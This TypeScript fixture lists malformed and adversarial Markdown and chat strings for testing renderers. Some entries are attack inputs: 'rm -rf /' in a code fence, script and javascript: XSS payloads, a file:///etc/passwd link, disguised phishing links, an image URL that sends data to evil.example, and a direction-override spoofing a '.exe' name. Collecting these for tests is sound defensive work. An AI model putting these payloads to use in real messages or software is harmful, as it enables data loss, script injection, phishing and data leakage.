/** Texts that have broken renderers, ours or others', each under what is nasty about it. */
export const nasty: Record<string, string> = {
  "marks that nobody closed": "**bold *italic `code ~~gone [link](http://a.example",
  "marks that close in the wrong order": "**a *b** c* ~~d **e~~ f**",
  "a row of marks alone": "*_*_*_*~~~~____****",
  "HTML, well-formed and not":
    "<b>bold</b> <img src=http://evil.example/x.png> <script>alert(1)</script> <a href=",
  "an entity that becomes a tag": "&lt;b&gt; &#60;i&#62; &amp;lt; &#0; &#x110000; &nbsp;",
  "fences in fences": "````md\n```js\nlet x = 1;\n```\n````\nbehind",
  "a fence that nobody closed": "before\n```sh\nrm -rf /\n@everyone",
  "a fence with a language of a stranger": "```js onload=alert(1)\nx\n```\n```<@1>\ny\n```",
  "code with backticks in it": "`` a`b `` ``` c``d ``` ` `` `",
  "a table with a ragged edge": "| a | b |\n|:--|--:|\n| 1 |\n| 1 | 2 | 3 |\n| `x|y` | **z** |",
  "a table too wide for any screen": `| ${"head ".repeat(30)} | b |\n|--|--|\n| x | ${"cell ".repeat(60)} |`,
  "a table of emoji and Chinese": "| 名前 | 👩‍👩‍👧 |\n|--|--|\n| 東京 | ✅ |\n| e\u0301 | 🇩🇪 |",
  "halves of surrogate pairs": "a\ud83d b\udc00 \udfff\ud800 **c\ud83d**",
  "an override of direction": "\u202egnp.exe\u202c \u2066x\u2069 file\u202e",
  "control characters and zeros": "a\u0000b\u0007c\u001b[31mred\u001b[0m\u009b31m\u007f",
  "words hidden in tags and zero widths": "i\u200bg\u2060n\ufeffore \u{e0041}\u{e0042}",
  "links that lead elsewhere":
    "[https://bank.example](https://evil.example/login) [bank](<https://evil.example>)",
  "links of other protocols":
    "[a](tg://user?id=1) [b](javascript:alert(1)) [c](file:///etc/passwd) [d](data:text/html,x) [e](mailto:a@b.example) <tg://resolve?domain=x>",
  "images that would be fetched":
    "![secret](http://evil.example/?q=42) ![](https://evil.example/a.png) [![x](http://e.example/i.png)](http://e.example)",
  "mentions of all kinds":
    "@everyone @here <@1> <@!2> <@&3> <#4> </approve:5> <t:1:R> <:a:6> <a:b:7> @aaron a@everyone",
  "commands that one tap sends": "/approve_7 (/reject) run:/start x/y //approve **/ok** /*no*",
  "references that repeat an address": `[a]: http://long.example/${"x".repeat(400)}\n\n${"[a] ".repeat(2000)}`,
  "a line of fifteen thousand characters": "word ".repeat(3000),
  "a word of fifteen thousand characters": "x".repeat(15_000),
  "lists forty levels deep": Array.from({ length: 60 }, (_, n) => `${"  ".repeat(n)}- level ${n}`).join("\n"),
  "quotes a thousand levels deep": `${"> ".repeat(1000)}deep`,
  "letters with a tower of accents": `Z${"\u0301".repeat(500)}algo ${"e\u0323\u0302".repeat(500)}`,
  "signs at the beginning of lines":
    "\\# a\n\\- b\n\\> c\n\\+ d\n1\\) e\n\\=== \n\\-# small\n    code\n\ttab\n***\n---\n- \n-\n> \n#",
  "line breaks of every kind": "a\r\nb\rc\u2028d\u2029e\u0085f  \ng\\\nh",
  "nothing at all": " \n\t\r\n\u200b",
};
